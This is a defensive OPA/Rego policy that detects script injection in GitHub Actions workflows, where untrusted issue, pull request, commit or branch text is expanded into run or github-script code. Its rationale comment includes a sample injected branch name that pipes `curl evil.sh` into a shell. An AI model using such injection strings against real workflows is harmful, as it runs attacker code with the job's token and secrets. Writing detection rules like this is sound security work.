# METADATA
# title: Untrusted input expanded in a script
# description: >-
#   A `run:` script (or the `script:` of `actions/github-script`) contains a
#   `${{ … }}` expression that reads text an outsider controls: an issue, pull
#   request, discussion, review or comment title or body, a commit message or author,
#   a page name, or a pull request's head branch (`github.head_ref`,
#   `github.event.pull_request.head.ref`, `github.event.workflow_run.head_branch`).
#   GitHub substitutes the expression into the script text before the shell runs, so
#   quotes, `$( … )` or backticks in that text become code.
# related_resources:
#   - ref: https://securitylab.github.com/resources/github-actions-untrusted-input/
#     description: "GitHub Security Lab: keeping your GitHub Actions and workflows secure, untrusted input"
#   - ref: https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections
#     description: GitHub's hardening guide on script injections
#   - ref: https://docs.zizmor.sh/audits/#template-injection
#     description: zizmor template-injection
# custom:
#   id: GP-GHA-004
#   severity: error
#   level: bronze
#   rationale: >-
#     A branch named `a";curl evil.sh|sh;"` or an issue titled with a command substitution
#     runs that command in the job, with its token and secrets. No review of the
#     workflow can catch it, because the attack is in the data, not in the change.
#   help: >-
#     Pass the value through an environment variable and quote it in the shell:
#     `env: {TITLE: "${{ github.event.issue.title }}"}` then `run: echo "$TITLE"`.
#     In `actions/github-script`, read `context.payload` instead of expanding `${{ }}`.
#   peers:
#     zizmor: template-injection
#     scorecard: Dangerous-Workflow
#   tags: [security]
#   security-severity: "8.5"
#   files: ["**/.github/workflows/*.yml", "**/.github/workflows/*.yaml"]
package goldenpath.gha.script_injection

import rego.v1

deny contains {"msg": msg, "path": ["jobs", job_id, "steps", i, "run"]} if {
	some job_id, job in as_object(input.jobs)
	some i, step in as_array(job.steps)
	exprs := untrusted_expressions(step.run)
	count(exprs) > 0
	msg := sprintf("run script expands untrusted input %s directly into the shell; pass it through env: and use \"$VAR\"", [concat(", ", exprs)])
}

deny contains {"msg": msg, "path": ["jobs", job_id, "steps", i, "with", "script"]} if {
	some job_id, job in as_object(input.jobs)
	some i, step in as_array(job.steps)
	is_string(step.uses)
	startswith(lower(trim_space(step.uses)), "actions/github-script@")
	exprs := untrusted_expressions(step["with"].script)
	count(exprs) > 0
	msg := sprintf("github-script expands untrusted input %s directly into the JavaScript; read it from context.payload or env instead", [concat(", ", exprs)])
}

# The distinct `${{ … }}` expressions of a script that read attacker-controlled text,
# sorted.
untrusted_expressions(script) := sort({expr |
	some expr in regex.find_n(`\$\{\{[^}]*\}\}`, script, -1)
	untrusted(lower(expr))
}) if is_string(script)

untrusted(expr) if {
	some pattern in untrusted_contexts
	regex.match(pattern, expr)
}

# Contexts whose text anyone who can open an issue, a pull request or a comment, or
# push a branch to a fork, chooses.
untrusted_contexts := [
	`github\.head_ref\b`,
	`github\.event\.(issue|pull_request|discussion)\.(title|body)\b`,
	`github\.event\.(comment|review|review_comment)\.body\b`,
	`github\.event\.pages(\[[^\]]*\]|\.\*)\.page_name\b`,
	`github\.event\.(head_commit|workflow_run\.head_commit)\.(message|author\.(name|email))\b`,
	`github\.event\.commits(\[[^\]]*\]|\.\*)\.(message|author\.(name|email))\b`,
	`github\.event\.pull_request\.head\.(ref|label|repo\.default_branch)\b`,
	`github\.event\.workflow_run\.(head_branch|display_title)\b`,
	`github\.event\.workflow_run\.pull_requests(\[[^\]]*\]|\.\*)\.head\.ref\b`,
]

as_object(x) := x if is_object(x) else := {}

as_array(x) := x if is_array(x) else := []
